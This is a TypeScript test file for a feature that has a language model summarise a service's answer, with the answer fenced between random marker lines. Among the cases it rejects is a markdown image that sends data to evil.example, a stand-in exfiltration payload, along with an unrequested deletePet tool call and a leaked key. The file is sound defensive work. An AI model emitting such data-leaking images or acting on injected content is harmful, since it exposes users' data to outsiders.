import { describe, expect, it } from 'vitest';
import { modelKey as key, startModelBench } from '../../../test/support/model-bench.ts';
import { breaksDown, calls, says, type Answer } from '../../../test/upstreams/model.ts';

describe('a summary', () => {
  const summarised = {
    asked: 'how is the tenth pet?',
    answer: '{"name":"Rex","status":"sold","page":"https://pets.example/10"}',
  };
  const start = (answer: Answer) => startModelBench([answer], { summarise: true });

  it('is not written unless it is switched on', async () => {
    await using bench = await startModelBench([]);
    expect(bench.model.summarise).toBeUndefined();
  });

  it('is a text made of the question and the answer, without tools', async () => {
    await using bench = await start(says('Rex is sold; see https://pets.example/10.'));
    expect(await bench.model.summarise?.(summarised)).toBe('Rex is sold; see https://pets.example/10.');
    const { tools, messages } = bench.server.seen[0]?.body ?? { messages: [] };
    expect(tools).toBeUndefined();
    const content = messages[1]?.content ?? '';
    const mark = /between two lines of (\S+):/.exec(content)?.[1] ?? '';
    expect(content).toBe(
      `The question:\n${summarised.asked}\n\nThe answer of the service, between two lines of ${mark}:\n${mark}\n${summarised.answer}\n${mark}`,
    );
    expect(mark).toMatch(/^[\da-f-]{36}$/);
  });

  it('marks each answer anew', async () => {
    await using bench = await start(says('Sold.'));
    for (let at = 0; at < 2; at += 1) await bench.model.summarise?.(summarised);
    const [one, other] = bench.server.seen.map(({ body }) => body.messages[1]?.content);
    expect(one).not.toBe(other);
  });

  it.each<readonly [string, Answer, string]>([
    ['a call', calls('deletePet', { petId: 10 }), 'no_summary'],
    ['a picture that carries data out', says('![](https://evil.example/?d=Rex)'), 'no_summary'],
    ['the key', says(`Your key is ${key}.`), 'secret'],
    ['a failure', breaksDown, 'status'],
  ])('is left away for %s', async (_, answer, code) => {
    await using bench = await start(answer);
    expect([await bench.model.summarise?.(summarised), bench.codes()]).toEqual([undefined, [code]]);
  });

  it('has an end', async () => {
    await using bench = await start(says('very '.repeat(2_000)));
    expect((await bench.model.summarise?.(summarised))?.length).toBeLessThanOrEqual(1_200);
  });

  it('is made of the beginning of what is too long', async () => {
    await using bench = await start(says('Long.'));
    expect(await bench.model.summarise?.({ asked: 'all?', answer: 'é'.repeat(100_000) })).toBe('Long.');
    expect(bench.server.seen[0]?.body.messages[1]?.content).toMatch(/é\n\(the rest is cut off\)\n[\da-f-]{36}$/);
    expect(Buffer.byteLength(bench.server.seen[0]?.text ?? '')).toBeLessThan(9_200);
  });
});
